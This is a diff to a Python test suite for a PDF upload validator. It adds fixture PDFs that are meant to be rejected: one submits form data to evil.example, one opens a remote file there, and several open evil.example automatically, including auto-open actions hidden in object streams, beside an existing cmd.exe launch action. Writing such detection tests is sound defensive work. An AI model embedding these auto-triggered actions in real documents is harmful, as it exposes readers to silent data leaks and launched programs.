@@ -110,6 +110,21 @@ PDFS = {
     ),
     "a script alone": pdf(b"5 0 obj\n<< /S /Rendition /JS (x) >>\nendobj"),
     "a program to launch": pdf(b"5 0 obj\n<< /S /Launch /F (cmd.exe) >>\nendobj"),
+    "a form that sends itself": pdf(b"5 0 obj\n<< /S /SubmitForm /F (http://evil.example) >>\nendobj"),
+    "a form that fetches what it holds": pdf(b"5 0 obj\n<< /S /ImportData /F (x.fdf) >>\nendobj"),
+    "a leap into a file inside": pdf(b"5 0 obj\n<< /S /GoToE /D (x) >>\nendobj"),
+    "a leap into a file elsewhere": pdf(object_stream(b"<< /S /GoToR /F (//evil.example/x.pdf) >>")),
+    "an address opened with the file": pdf(b"<< /OpenAction << /S /URI /URI (http://evil.example) >> >>"),
+    "an address opened with the file, kept apart": pdf(
+        b"<< /OpenAction 5 0 R >>\n5 0 obj\n<< /Type /Action /S/URI /URI (http://evil.example) >>\nendobj"
+    ),
+    "an address opened with the file, from an object stream": pdf(
+        b"<< /OpenAction 5 0 R >>", object_stream(b"<< /URI (http://evil.example) /S % x\n/URI >>")
+    ),
+    "an address opened after a page": pdf(
+        b"<< /OpenAction << /S /GoTo /D [3 0 R /Fit] /Next << /S /URI /URI (http://evil.example) >> >> >>"
+    ),
+    "an address opened with a page": pdf(b"<< /Type /Page /AA << /O << /S /URI /URI (http://evil.example) >> >> >>"),
     "a file inside": pdf(b"5 0 obj\n<< /Type /EmbeddedFile >>\nendobj"),
     "files inside": pdf(b"<< /Names << /EmbeddedFiles 7 0 R >> >>"),
     "a form with scripts": pdf(b"<< /AcroForm << /XFA 7 0 R >> >>"),
@@ -134,12 +149,23 @@ def test_a_pdf_that_carries_more_than_pages_is_422(embedded, content):
 def test_an_ordinary_pdf_passes(embedded):
     case, caseworker = embedded.open("2026-01-05"), embedded.actor("caseworker")
     ordinary = pdf(
+        b"<< /OpenAction [3 0 R /FitH null] /Annots [<< /Subtype /Link /A << /S /URI /URI (https://x.example) >> >> 6 0 R] >>",
+        b"6 0 obj\n<< /Subtype /Link /A 7 0 R >>\nendobj\n7 0 obj\n<< /S /URI /URI (mailto:x@x.example) >>\nendobj",
         object_stream(b"<< /Type /Font /BaseFont /JSans /Title (On /LaunchPad and JavaScript) >>"),
         stream(b"/Filter /FlateDecode", zlib.compress(b"BT /F1 12 Tf (about /JavaScript) Tj ET")),
         stream(b"/Filter /DCTDecode", b"\xff\xd8\xff/JS\x80\x90\xff\xd9"),
         stream(b"/Filter /FlateDecode", b"not deflated at all"),
     )
     answer = send(embedded, caseworker, case, "report.pdf", ordinary)
+    assert answer.status_code == 201, answer.text
+
+
+def test_a_pdf_that_opens_at_a_page_and_has_links_passes(embedded):
+    """As LaTeX writes it: what is done on opening is an object of its own, and so might be anything."""
+    case, caseworker = embedded.open("2026-01-05"), embedded.actor("caseworker")
+    link = b"<< /Type /Annot /Subtype /Link /A<</Type/Action/S/URI/URI(https://www.gov.uk/send)>> >>"
+    goes = b"<< /OpenAction 5 0 R >>\n5 0 obj\n<< /S /GoTo /D [3 0 R /Fit] >>\nendobj"
+    answer = send(embedded, caseworker, case, "report.pdf", pdf(goes, object_stream(link)))
     assert answer.status_code == 201, answer.text
 
 
